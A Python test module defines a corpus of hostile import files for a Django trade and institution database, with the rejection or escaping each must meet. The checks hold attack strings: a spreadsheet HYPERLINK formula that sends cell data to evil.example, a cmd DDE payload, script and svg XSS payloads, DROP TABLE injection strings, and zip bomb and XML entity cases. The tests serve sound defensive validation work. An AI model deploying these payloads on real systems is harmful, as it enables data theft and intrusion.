"""The hostile corpus: every file or payload, the model it is fed to, and what must come of it.

A case is either **rejected** — ``reason`` is a fragment of the error every entry point must show,
``row``/``column`` where the error must be located — or **accepted**, and then ``check`` says what
must hold afterwards (text stored as text, escaped on export and on the public page).

Files live in corpus/ (binary ones written by make_corpus.py); the few too large for git are made
here at test time by ``make``. JSON cases are posted to the API as a request body, where the
API's own parser or field check may answer first (``api_reason``), as its upload size check does.

A million rows: a 1,000,000-row trade CSV is about 45 MB, more than an import may be
(IMPORT_MAX_FILE_SIZE, 20 MB), so the admin, the command and the API all refuse it before reading
a row (the API before the import, with 413). With the size limit raised, the command accepts a
million rows (bench/import_trade.py: about ten minutes on PostgreSQL, too long for the suite) and
refuses a million and one by the row limit within seconds (test_corpus.py).
"""

import csv
import io
from dataclasses import dataclass
from pathlib import Path

from django.test import Client

from alliances.models import Institution
from core.imports.services import export_file
from trade.models import TradeRecord

CORPUS = Path(__file__).resolve().parent / "corpus"
SOURCE = "eurasian-practice-2022"
TRADE_HEADER = "partner,year,flow,value,source,source_locator\n"
MB = 1024 * 1024


@dataclass(frozen=True)
class Case:
    file: str
    model: str = "trade.TradeRecord"
    reason: str | None = None  # None: the file is accepted
    row: int | None = None
    column: str | None = None
    check: object = None  # accepted: a function run after the import
    make: object = None  # a function returning the content, for files made at test time
    api_reason: str | None = None  # the API's own answer, when its checks come before the import's

    @property
    def rejected(self):
        return self.reason is not None

    def content(self):
        return self.make() if self.make else (CORPUS / self.file).read_bytes()

    def __str__(self):
        return self.file


# -- files made at test time ------------------------------------------------------------------


def one_megabyte_cell():
    return (TRADE_HEADER + f"NZL,2019,total,1,{SOURCE},{'x' * MB}\n").encode()


def long_name():
    return (
        f"slug,name_en,kind,country,source,source_locator\nlong-name,{'N' * 300},university,NZL,{SOURCE},x\n".encode()
    )


def long_locator():
    """As long as a spreadsheet cell may be (32,767 characters), in a 255-character column."""
    return (TRADE_HEADER + f"NZL,2019,total,1,{SOURCE},{'L' * 32_767}\n").encode()


def long_description():
    """A 32,000-character description: a text column without a limit keeps it whole."""
    return (
        "slug,name_en,kind,country,description_en,source,source_locator\n"
        f"long-description,Long,university,NZL,{'D' * 32_000},{SOURCE},x\n"
    ).encode()


def million_rows():
    """1,000,000 trade rows, about 45 MB: more than the 20 MB an import may be."""
    line = f"NZL,2019,total,1,{SOURCE},x\n"
    return (TRADE_HEADER + line * 1_000_000).encode()


def deeply_nested():
    """100,000 nested arrays: Python's JSON parser would run out of stack."""
    return b"[" * 100_000 + b"]" * 100_000


def huge_integer():
    """A 5,000-digit year: more digits than Python converts to an integer by default."""
    return f'[{{"partner": "NZL", "year": {"9" * 5000}, "value": 1}}]'.encode()


# -- what must hold after an accepted file ----------------------------------------------------


def exported_cells(model):
    text = export_file(model, "csv").decode("utf-8-sig")
    return {cell for row in csv.reader(io.StringIO(text)) for cell in row}


def formulae_stored_as_text_and_escaped():
    stored = set(TradeRecord.objects.filter(partner__iso3="NZL").values_list("source_locator", flat=True))
    formulae = {
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+SUM(1+1)",
        "-2+3",
        "@SUM(A1)",
        "=cmd|' /C calc'!A0",
    }
    assert stored == formulae
    cells = exported_cells(TradeRecord)
    assert {"'" + formula for formula in formulae} <= cells
    assert not formulae & cells


def names_stored_and_escaped_on_export():
    names = dict(Institution.objects.filter(slug__startswith="hostile-").values_list("slug", "name_en"))
    assert names == {
        "hostile-formula": "=cmd|' /C calc'!A0",
        "hostile-plus": "+1+1",
        "hostile-at": "@SUM(A1)",
        "hostile-fullwidth": "＝1+1",
    }
    cells = exported_cells(Institution)
    assert {"'" + name for name in names.values()} <= cells
    assert not set(names.values()) & cells


def public_page(slug, language="en"):
    response = Client().get(f"/{language}/institutions/{slug}/")
    assert response.status_code == 200
    return response.content.decode()


def html_stored_and_escaped_on_the_public_page():
    institution = Institution.objects.get(slug="hostile-html")
    assert institution.name_en == "<script>alert('xss')</script><img src=x onerror=alert(1)>"
    page = public_page("hostile-html")
    assert "<script>alert(" not in page and "<img src=x" not in page
    assert "&lt;script&gt;alert(" in page
    chinese = public_page("hostile-html", "zh-hans")
    assert "<b>粗体" not in chinese and "&lt;b&gt;粗体&lt;/b&gt;" in chinese


def json_html_stored_and_escaped():
    assert Institution.objects.get(slug="hostile-json-html").name_en == "<svg onload=alert(1)>"
    page = public_page("hostile-json-html")
    assert "<svg onload" not in page and "&lt;svg onload=alert(1)&gt;" in page


def sql_stored_as_text():
    locators = set(TradeRecord.objects.filter(partner__iso3="NZL").values_list("source_locator", flat=True))
    assert locators == {"'; DROP TABLE trade_traderecord; --", "1 OR 1=1", "Robert'); DELETE FROM reference_country;--"}
    assert TradeRecord.objects.count() > 3 and Institution.objects.exists()


def bidi_stored_and_escaped():
    assert Institution.objects.get(slug="hostile-bidi").name_en == "Evil\u202egnp.exe"
    assert "Evil\u202egnp.exe" in public_page("hostile-bidi")  # a character, not markup: shown as written


def nzl_values(*expected):
    def check():
        rows = TradeRecord.objects.filter(partner__iso3="NZL").order_by("year")
        assert [(r.year, str(r.value.normalize()), r.source_locator) for r in rows] == list(expected)

    return check


def long_description_kept():
    assert len(Institution.objects.get(slug="long-description").description_en) == 32_000


def dimension_ignored():
    assert TradeRecord.objects.filter(partner__iso3="NZL").count() == 1


# -- the corpus ---------------------------------------------------------------------------------

CASES = [
    # Malformed CSV
    Case("empty.csv", reason="file is empty"),
    Case("header_only.csv", reason="a header row but no data rows"),
    Case("header_and_blank_lines.csv", reason="a header row but no data rows"),
    Case("unbalanced_quote.csv", reason="unbalanced quote", row=2, column="source_locator"),
    Case("stray_quote.csv", reason="a quote in the middle of a quoted cell", row=2, column="source_locator"),
    Case("too_few_cells.csv", reason="the row has 5 cells but the header row has 6", row=2),
    Case("too_many_cells.csv", reason="the row has 7 cells but the header row has 6", row=2),
    Case("semicolons.csv", reason="separated by semicolons", row=1),
    Case("header_with_space.csv", reason="starts or ends with a space", row=1, column="A"),
    Case("duplicate_header.csv", reason="also the header of column B", row=1, column="C"),
    Case("unknown_header.csv", reason="Unknown column", row=1, column="secret_column"),
    Case("id_column.csv", reason="Unknown column", row=1, column="id"),
    Case("nul_byte.csv", reason="NUL character", row=2),
    Case(
        "cell_1mb.csv",
        make=one_megabyte_cell,
        reason="longer than the 32,767 characters",
        row=2,
        column="source_locator",
    ),
    Case("mixed_line_endings.csv", check=nzl_values((2019, "1", "crlf"), (2020, "2", "lf"), (2021, "3", "cr"))),
    # Encodings
    Case("mixed_encodings.csv", reason="cannot be read as", row=3),
    Case("latin1.csv", reason="cannot be read as", row=2),
    Case("utf16_without_bom.csv", reason="NUL character", row=1),
    Case("gb18030_chinese_names.csv", check=nzl_values((2019, "7.5", "表一"))),
    Case("utf16_with_bom.tsv", check=nzl_values((2019, "7.5", "x"))),
    # Numbers and years
    Case("nan.csv", reason="is not a finite number", row=2, column="value"),
    Case("infinity.csv", reason="is not a finite number", row=2, column="value"),
    Case("huge_exponent.csv", reason="digits", row=2, column="value"),
    Case("too_many_digits.csv", reason="digits", row=2, column="value"),
    Case("formula_in_number.csv", reason="is not a number", row=2, column="value"),
    Case("negative_value.csv", check=nzl_values((2019, "-1071.5", "negative balance"))),  # a deficit is a fact
    Case("years_out_of_range.csv", reason="greater than or equal to 1900", row=2, column="year"),
    Case("unknown_choice.csv", reason="sideways", row=2, column="flow"),
    # Keys
    Case("duplicate_rows.csv", reason="Same key as row 2", row=3),
    Case("unknown_country.csv", reason="XXX", row=2, column="partner"),
    Case("unknown_source.csv", reason="no-such-source", row=2, column="source"),
    Case("sql_in_key.csv", reason="NZL' OR '1'='1", row=2, column="partner"),
    Case("unknown_alliance.csv", model="alliances.Membership", reason="no-such-alliance", row=2, column="alliance"),
    # Text that means something elsewhere: stored as text, harmless where it is shown
    Case("formula_in_text.csv", check=formulae_stored_as_text_and_escaped),
    Case("formula_in_names.csv", model="alliances.Institution", check=names_stored_and_escaped_on_export),
    Case("html_in_names.csv", model="alliances.Institution", check=html_stored_and_escaped_on_the_public_page),
    Case("html_in_names.json", model="alliances.Institution", check=json_html_stored_and_escaped),
    Case("html_in_slug.csv", model="alliances.Institution", reason="slug", row=2, column="slug"),
    Case("javascript_url.csv", model="alliances.Institution", reason="Enter a valid URL", row=2, column="website"),
    Case("bidi_control.csv", model="alliances.Institution", check=bidi_stored_and_escaped),
    Case("sql_in_text.csv", check=sql_stored_as_text),
    # Very long strings
    Case("long_name.csv", model="alliances.Institution", make=long_name, reason="at most 255 characters", row=2),
    Case("long_locator.csv", make=long_locator, reason="at most 255 characters", row=2, column="source_locator"),
    Case("long_description.csv", model="alliances.Institution", make=long_description, check=long_description_kept),
    # JSON
    Case("nan.json", reason="is not a finite number", row=2, column="value", api_reason="NaN is not a number"),
    Case("huge_number.json", reason="is not a finite number", row=2, column="value", api_reason="digits"),
    Case("nested_value.json", reason="a list or an object", row=2, column="value", api_reason="a single value"),
    Case("object_not_list.json", reason="should be a list of objects", api_reason="non-empty JSON array"),
    Case("truncated.json", reason="invalid JSON", api_reason="not valid JSON"),
    Case("empty_list.json", reason="no data rows", api_reason="non-empty JSON array"),
    Case("id_key.json", reason="Unknown column", row=1, column="id", api_reason="Unknown field"),
    Case("deeply_nested.json", make=deeply_nested, reason="nested too deeply", api_reason="not valid JSON"),
    Case("huge_integer.json", make=huge_integer, reason="invalid JSON", api_reason="not valid JSON"),
    Case("nul_in_string.json", reason="NUL character", row=2, column="source_locator"),
    Case("lone_surrogate.json", reason="unpaired surrogate", row=2, column="source_locator"),
    # Workbooks and mislabelled files
    Case("zip_bomb.xlsx", reason="compressed bomb"),
    Case("billion_laughs_sheet.xlsx", reason="XML entity or DTD declarations"),
    Case("billion_laughs_workbook.xlsx", reason="XML entity or DTD declarations"),
    Case("external_entity.xlsx", reason="XML entity or DTD declarations"),
    Case("forged_dimension.xlsx", check=dimension_ignored),
    Case("damaged.xlsx", reason="looks like a damaged ZIP archive"),
    Case("password_protected.xlsx", reason="password-protected"),
    Case("legacy_excel.xls", reason="legacy Excel 97–2003 file"),
    Case("workbook_named.csv", reason="named as CSV but its content looks like an Excel workbook"),
    Case("png_named.xlsx", reason="looks like a PNG image"),
    Case("pdf_named.csv", reason="looks like a PDF document"),
    Case("zip_named.xlsx", reason="looks like a ZIP archive"),
    Case("gzip_named.json", reason="looks like a gzip archive", api_reason="not valid JSON"),
    # A million rows: more than an upload may be (the command is tested with a raised limit on its own)
    Case(
        "million_rows.csv",
        make=million_rows,
        reason="more than the limit of 20 MB",
        api_reason="larger than 20,971,520 bytes",
    ),
]
